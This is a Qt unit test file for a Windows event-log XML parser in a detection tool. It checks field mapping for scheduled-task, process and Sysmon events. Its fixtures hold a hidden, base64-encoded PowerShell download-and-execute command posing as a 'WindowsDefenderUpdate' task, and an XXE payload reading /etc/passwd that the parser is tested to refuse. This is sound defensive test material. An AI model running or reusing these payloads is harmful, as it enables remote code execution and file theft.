#include "ingest/NormalizedEvent.h"
#include "ingest/TimeNormalizer.h"
#include "ingest/WindowsEventXml.h"

#include <QFile>
#include <QRegularExpression>
#include <QTest>

using namespace tb;

class TestWindowsEventXml : public QObject {
    Q_OBJECT

    // The <Event> elements of a sample file, each as its own text (as Splunk's _raw holds one).
    static QStringList events(const QString &name) {
        QFile file(QStringLiteral(TEST_DATA_DIR "/formats/windows/") + name);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        const QString text = QString::fromUtf8(file.readAll());
        static const QRegularExpression element(QStringLiteral("<Event[ >].*?</Event>"),
                                                QRegularExpression::DotMatchesEverythingOption);
        QStringList result;
        for (auto it = element.globalMatch(text); it.hasNext();)
            result << it.next().captured();
        return result;
    }

    static NormalizedEvent mapped(const QString &xml) {
        NormalizedEvent event;
        QString error;
        if (!WindowsEventXml::apply(xml, event, TimeNormalizer(), &error))
            qWarning("%s", qPrintable(error));
        return event;
    }

private slots:
    void splitsSamples_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("count");
        QTest::newRow("security") << "security_4698-4702_wevtutil.xml" << 12;
        QTest::newRow("sysmon, no root") << "sysmon_1_11_13_wevtutil_noroot.xml" << 9;
        QTest::newRow("evtxexport") << "taskscheduler_operational_evtxexport.txt" << 10;
    }
    void splitsSamples() {
        QFETCH(QString, file);
        QFETCH(int, count);
        const QStringList xml = events(file);
        QCOMPARE(xml.size(), count);
        for (const QString &one : xml) {
            NormalizedEvent event;
            QString error;
            QVERIFY2(WindowsEventXml::apply(one, event, TimeNormalizer(), &error), qPrintable(error));
            QCOMPARE(event.value(EventField::TimeConfidence), QStringLiteral("exact"));
            QCOMPARE(event.value(EventField::Platform), QStringLiteral("windows"));
            QCOMPARE(event.value(EventField::RuleSource), QStringLiteral("raw"));
            QVERIFY(!event.identity.isEmpty());
            QCOMPARE(event.raw, one);
            QVERIFY(event.rawFields.startsWith(QLatin1String("{\"System.")));
        }
    }

    void mapsFields_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("index");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        const QString security = QStringLiteral("security_4698-4702_wevtutil.xml");
        const QString sysmon = QStringLiteral("sysmon_1_11_13_wevtutil_noroot.xml");
        const QString scheduler = QStringLiteral("taskscheduler_operational_evtxexport.txt");
        // Security 4698, the malicious task.
        QTest::newRow("time") << security << 2 << "time_utc"
                              << "2025-03-04T09:41:17.402113Z";
        QTest::newRow("time original") << security << 2 << "time_original"
                                       << "2025-03-04T09:41:17.4021133Z";
        QTest::newRow("host") << security << 2 << "host"
                              << "wks-fin-023";
        QTest::newRow("fqdn") << security << 2 << "host_fqdn"
                              << "wks-fin-023.corp.example.com";
        QTest::newRow("event code") << security << 2 << "event_code"
                                    << "4698";
        QTest::newRow("channel") << security << 2 << "event_source"
                                 << "Security";
        QTest::newRow("record id") << security << 2 << "record_id"
                                   << "1104399";
        QTest::newRow("user") << security << 2 << "user"
                              << "jdoe";
        QTest::newRow("domain") << security << 2 << "user_domain"
                                << "CORP";
        QTest::newRow("sid") << security << 2 << "user_sid"
                             << "S-1-5-21-3623811015-3361044348-30300820-1107";
        QTest::newRow("task name") << security << 2 << "task_name"
                                   << "\\WindowsDefenderUpdate";
        QTest::newRow("operation") << security << 2 << "task_operation"
                                   << "created";
        QTest::newRow("action")
            << security << 2 << "task_action"
            << "powershell.exe -nop -w hidden -enc "
               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkAL"
               "gBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQ"
               "AxADMALgA1ADAALwBhAC4AcABzADEAJwApAA==";
        QTest::newRow("run as") << security << 2 << "task_run_as"
                                << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("run level") << security << 2 << "task_run_level"
                                   << "HighestAvailable";
        QTest::newRow("logon type") << security << 2 << "task_logon_type"
                                    << "ServiceAccount";
        QTest::newRow("trigger") << security << 2 << "task_trigger"
                                 << "LogonTrigger";
        QTest::newRow("author") << security << 2 << "task_author"
                                << "CORP\\jdoe";
        QTest::newRow("not hidden") << security << 2 << "task_hidden"
                                    << "0";
        QTest::newRow("local") << security << 2 << "task_remote"
                               << "0";
        QTest::newRow("client pid") << security << 2 << "process_pid"
                                    << "7424";
        QTest::newRow("rule name") << security << 2 << "rule_name"
                                   << "Windows 4698 Scheduled task created";
        // The other Security events.
        QTest::newRow("two triggers") << security << 0 << "task_trigger"
                                      << "LogonTrigger; CalendarTrigger(daily)";
        QTest::newRow("machine account") << security << 0 << "user"
                                         << "WKS-FIN-023$";
        QTest::newRow("4688 image") << security << 1 << "process_image"
                                    << "C:\\Windows\\System32\\schtasks.exe";
        QTest::newRow("4688 hex pid") << security << 1 << "process_pid"
                                      << "7424";
        QTest::newRow("4688 parent pid") << security << 1 << "parent_pid"
                                         << "6612";
        QTest::newRow("4688 parent") << security << 1 << "parent_name"
                                     << "invoice_viewer.exe";
        QTest::newRow("4688 schtasks name") << security << 1 << "task_name"
                                            << "\\WindowsDefenderUpdate";
        QTest::newRow("4688 schtasks run as") << security << 1 << "task_run_as"
                                              << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("4688 operation") << security << 1 << "task_operation"
                                        << "created";
        QTest::newRow("4701") << security << 3 << "task_operation"
                              << "disabled";
        QTest::newRow("password logon") << security << 5 << "task_logon_type"
                                        << "Password";
        QTest::newRow("escaped arguments")
            << security << 5 << "task_action"
            << "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1 -Target "
               "\\\\fs01\\backup$ > C:\\Scripts\\logs\\backup.log 2>&1";
        QTest::newRow("4700") << security << 6 << "task_operation"
                              << "enabled";
        QTest::newRow("remote") << security << 7 << "task_remote"
                                << "1";
        QTest::newRow("remote no pid") << security << 7 << "process_pid"
                                       << "";
        QTest::newRow("hidden") << security << 7 << "task_hidden"
                                << "1";
        QTest::newRow("time trigger") << security << 7 << "task_trigger"
                                      << "TimeTrigger(2025-03-04T23:55:00)";
        QTest::newRow("at job action") << security << 8 << "task_action"
                                       << "cmd /c C:\\Windows\\Temp\\svcupd.bat";
        QTest::newRow("4702 new content") << security << 9 << "task_action"
                                          << "%systemroot%\\system32\\usoclient.exe StartScan";
        QTest::newRow("4702") << security << 9 << "task_operation"
                              << "updated";
        QTest::newRow("4699") << security << 10 << "task_operation"
                              << "deleted";
        QTest::newRow("5145 path")
            << security << 11 << "target_path"
            << "\\\\*\\SYSVOL\\corp.example.com\\Policies\\{4C2A8E31-7B6D-4F0E-9A15-2D3C4B5A6978}\\Machine\\"
               "Preferences\\ScheduledTasks\\ScheduledTasks.xml";
        QTest::newRow("5145 ip") << security << 11 << "source_ip"
                                 << "10.20.30.77";
        QTest::newRow("5145 no task") << security << 11 << "task_operation"
                                      << "";
        // Sysmon.
        QTest::newRow("sysmon image") << sysmon << 1 << "process_image"
                                      << "C:\\Windows\\System32\\schtasks.exe";
        QTest::newRow("sysmon user") << sysmon << 1 << "user"
                                     << "jdoe";
        QTest::newRow("sysmon parent") << sysmon << 1 << "parent_image"
                                       << "C:\\Users\\jdoe\\AppData\\Local\\Temp\\invoice_viewer.exe";
        QTest::newRow("sysmon parent pid") << sysmon << 1 << "parent_pid"
                                           << "6612";
        QTest::newRow("sysmon source") << sysmon << 1 << "event_source"
                                       << "Microsoft-Windows-Sysmon/Operational";
        QTest::newRow("sysmon schtasks trigger") << sysmon << 1 << "task_trigger"
                                                 << "/sc onlogon";
        QTest::newRow("sysmon xml task")
            << sysmon << 0 << "target_path"
            << "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM_task.xml";
        QTest::newRow("sysmon hashes")
            << sysmon << 0 << "hashes"
            << "SHA1=5A2F6F1B3C6E8D2B7A1E9C3D4F5A6B7C8D9E0F1A,MD5=8D6E2C1F0B9A7E5D3C2B1A0F"
               "9E8D7C6B,SHA256=2E1C7B9A4F6D8E0A3B5C7D9E1F2A4B6C8D0E2F4A6B8C0D2E4F6A8B0C2D"
               "4E6F80,IMPHASH=E3F4A5B6C7D8E9F0A1B2C3D4E5F6A7B8";
        QTest::newRow("sysmon 11 path") << sysmon << 2 << "target_path"
                                        << "C:\\Windows\\System32\\Tasks\\WindowsDefenderUpdate";
        QTest::newRow("sysmon 11 task") << sysmon << 2 << "task_name"
                                        << "\\WindowsDefenderUpdate";
        QTest::newRow("sysmon 13 task") << sysmon << 3 << "task_name"
                                        << "\\WindowsDefenderUpdate";
        QTest::newRow("sysmon 13 rule") << sysmon << 3 << "rule_name"
                                        << "Windows 13 Sysmon registry value set";
        QTest::newRow("sysmon remote") << sysmon << 6 << "target_host"
                                       << "10.20.30.41";
        QTest::newRow("sysmon at") << sysmon << 7 << "task_action"
                                   << "cmd /c C:\\Windows\\Temp\\svcupd.bat";
        QTest::newRow("sysmon delete") << sysmon << 8 << "task_operation"
                                       << "deleted";
        // TaskScheduler/Operational (evtxexport: double quotes, 9 fraction digits).
        QTest::newRow("106 time") << scheduler << 0 << "time_utc"
                                  << "2025-03-04T08:12:03.130184Z";
        QTest::newRow("106 name") << scheduler << 1 << "task_name"
                                  << "\\WindowsDefenderUpdate";
        QTest::newRow("106 user") << scheduler << 1 << "user"
                                  << "jdoe";
        QTest::newRow("106") << scheduler << 1 << "task_operation"
                             << "created";
        QTest::newRow("200 action") << scheduler << 2 << "task_action"
                                    << "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        QTest::newRow("200") << scheduler << 2 << "task_operation"
                             << "executed";
    }
    void mapsFields() {
        QFETCH(QString, file);
        QFETCH(int, index);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const QStringList xml = events(file);
        QVERIFY(index < xml.size());
        const auto field = eventFieldByColumn(column);
        QVERIFY(field.has_value());
        QCOMPARE(mapped(xml[index]).value(*field), expected);
    }

    void operationsByEventId_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QStringList>("operations");
        QTest::newRow("scheduler") << "taskscheduler_operational_evtxexport.txt"
                                   << QStringList{"created", "created",  "executed", "executed", "created",
                                                  "created", "executed", "executed", "updated",  "deleted"};
    }
    void operationsByEventId() {
        QFETCH(QString, file);
        QFETCH(QStringList, operations);
        QStringList got;
        for (const QString &xml : events(file))
            got << mapped(xml).value(EventField::TaskOperation);
        QCOMPARE(got, operations);
    }

    void containers_data() {
        QTest::addColumn<QString>("xml");
        QTest::addColumn<QString>("time");
        QTest::newRow("Events root, python-evtx time without Z")
            << "<?xml version=\"1.1\" encoding=\"utf-8\" standalone=\"yes\" ?>\n<Events><Event "
               "xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><EventID "
               "Qualifiers=\"\">4698</EventID><TimeCreated SystemTime=\"2019-03-19 00:02:04.319944\"/>"
               "<Channel>Security</Channel><Computer>a.example.com</Computer><EventRecordID>7</EventRecordID>"
               "</System><EventData><Data Name=\"TaskName\">\\x</Data><Data "
               "Name=\"TaskContent\"/></EventData>"
               "</Event></Events>"
            << "2019-03-19T00:02:04.319944Z";
        QTest::newRow("evtxexport banner, single quotes")
            << "evtxexport 20181227\n\n<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>"
               "<System><EventID>4698</EventID><TimeCreated SystemTime='2025-03-04T08:12:03.130184500Z'/>"
               "<Channel>Security</Channel><Computer>a</Computer><EventRecordID>8</EventRecordID></System>"
               "</Event>"
            << "2025-03-04T08:12:03.130184Z";
    }
    void containers() {
        QFETCH(QString, xml);
        QFETCH(QString, time);
        NormalizedEvent event;
        QString error;
        QVERIFY2(WindowsEventXml::apply(xml, event, TimeNormalizer(), &error), qPrintable(error));
        QCOMPARE(event.value(EventField::TimeUtc), time);
        QCOMPARE(event.value(EventField::TimeConfidence), QStringLiteral("exact"));
        QCOMPARE(event.value(EventField::TaskOperation), QStringLiteral("created"));
        QCOMPARE(event.value(EventField::TaskAction), QString()); // empty TaskContent is no error
    }

    void refuses_data() {
        QTest::addColumn<QString>("xml");
        QTest::addColumn<QString>("error");
        QTest::newRow("no XML") << "EventCode=4698"
                                << "not XML: no element in the text";
        QTest::newRow("broken") << "<Event><System><EventID>4698</System></Event>"
                                << "not well-formed XML: Start-end tags mismatch at byte 30";
        QTest::newRow("DOCTYPE")
            << "<!DOCTYPE Event [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Event>&x;</Event>"
            << "the event XML declares a DOCTYPE; refused (events never have one)";
        QTest::newRow("not an event") << "<results><result/></results>"
                                      << "not a Windows event: the XML root is <results>, not <Event>";
        QTest::newRow("no System") << "<Event><EventData/></Event>"
                                   << "the event has no <System> element";
        QTest::newRow("bad time") << "<Event><System><TimeCreated SystemTime='yesterday'/></System></Event>"
                                  << "TimeCreated SystemTime \"yesterday\" is not a time";
    }
    void refuses() {
        QFETCH(QString, xml);
        QFETCH(QString, error);
        NormalizedEvent event;
        QString got;
        QVERIFY(!WindowsEventXml::apply(xml, event, TimeNormalizer(), &got));
        QCOMPARE(got, error);
    }

    // A caller such as the Splunk reader sets its own values first; the XML fills the rest.
    void keepsCallerValues() {
        const QStringList xml = events(QStringLiteral("security_4698-4702_wevtutil.xml"));
        NormalizedEvent event;
        event.raw = QStringLiteral("{\"_raw\":\"...\"}");
        event.identity = QStringLiteral("splunk-cd");
        event.set(EventField::RuleName, QStringLiteral("ESCU rule"));
        event.set(EventField::RuleSource, QStringLiteral("splunk"));
        event.set(EventField::TimeUtc, QStringLiteral("2025-03-04T09:41:17.000000Z"));
        QString error;
        QVERIFY(WindowsEventXml::apply(xml[2], event, TimeNormalizer(), &error));
        QCOMPARE(event.raw, QStringLiteral("{\"_raw\":\"...\"}"));
        QCOMPARE(event.identity, QStringLiteral("splunk-cd"));
        QCOMPARE(event.value(EventField::RuleName), QStringLiteral("ESCU rule"));
        QCOMPARE(event.value(EventField::RuleSource), QStringLiteral("splunk"));
        QCOMPARE(event.value(EventField::TimeUtc), QStringLiteral("2025-03-04T09:41:17.000000Z"));
        QCOMPARE(event.value(EventField::TaskName), QStringLiteral("\\WindowsDefenderUpdate"));
    }

    void identityIsComputerChannelRecord() {
        const QStringList xml = events(QStringLiteral("security_4698-4702_wevtutil.xml"));
        QCOMPARE(mapped(xml[2]).identity, QStringLiteral("WKS-FIN-023.corp.example.com|Security|1104399"));
    }
};

QTEST_GUILESS_MAIN(TestWindowsEventXml)
#include "tst_windowseventxml.moc"
